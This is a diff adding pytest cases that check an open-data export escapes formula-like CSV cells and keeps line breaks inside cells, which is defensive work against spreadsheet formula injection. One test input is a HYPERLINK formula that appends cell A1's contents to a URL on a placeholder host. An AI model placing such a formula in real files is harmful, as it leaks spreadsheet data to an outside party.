@@ -18,7 +18,7 @@ from conftest import REPO
 from jsonschema import Draft202012Validator, FormatChecker
 from test_site_build import page
 
-from resource_centre.editions.opendata import KIND_FILES, open_data_files
+from resource_centre.editions.opendata import KIND_FILES, open_data_files, records_csv, spreadsheet_text
 from resource_centre.records.project import open_project
 from resource_centre.records.schema import load_schemas
 
@@ -125,7 +125,8 @@ def test_the_spreadsheets_read_back_as_the_csv_files(mini_site, project):
             expected = _csv_rows(files[rel[:-5] + ".csv"])
             # the mini fixture has no trainings or events: their sheets hold the header row alone
             assert len(expected) > 1 or files is not bundled, rel
-            assert _xlsx_rows(files[rel]) == expected, rel
+            # the workbook holds every cell as written and as text; the CSV file marks formula-like text
+            assert [[spreadsheet_text(v) for v in row] for row in _xlsx_rows(files[rel])] == expected, rel
 
 
 def test_the_spreadsheets_are_the_same_bytes_every_build(project):
@@ -152,3 +153,27 @@ def test_open_data_page_links_the_spreadsheets_and_says_how_to_open_the_csv(mini
         assert re.sub(r"[*`]", "", help_text).split("\n")[0][:60] in text, lang
     assert "Unicode (UTF-8)" in page(mini_site, "data/index.html")
     assert "Unicode (UTF-8)" in page(mini_site, "km/data/index.html")
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")", "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")"),
+    ("+855 12 345 678", "'+855 12 345 678"),
+    ("-1+2", "'-1+2"),
+    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+    ("\t=1+2", "'\t=1+2"),
+    ("-5", "-5"),
+    ("+3.5", "+3.5"),
+    ("2026-12-04", "2026-12-04"),
+    ("Joint sector review", "Joint sector review"),
+    ("ការពិនិត្យ = រួមគ្នា", "ការពិនិត្យ = រួមគ្នា"),
+    ("", ""),
+])
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_marked_as_text(cell, written):
+    assert spreadsheet_text(cell) == written
+    data = records_csv((["id", "title"], [["a-record", cell]]))
+    assert _csv_rows(data) == [["id", "title"], ["a-record", written]]
+
+
+def test_a_line_break_in_a_csv_cell_stays_in_its_cell():
+    data = records_csv((["id", "title"], [["a", "one\r\ntwo\rthree\nfour"], ["b", "\r=1+2"]]))
+    assert _csv_rows(data) == [["id", "title"], ["a", "one\ntwo\nthree\nfour"], ["b", "\n=1+2"]]
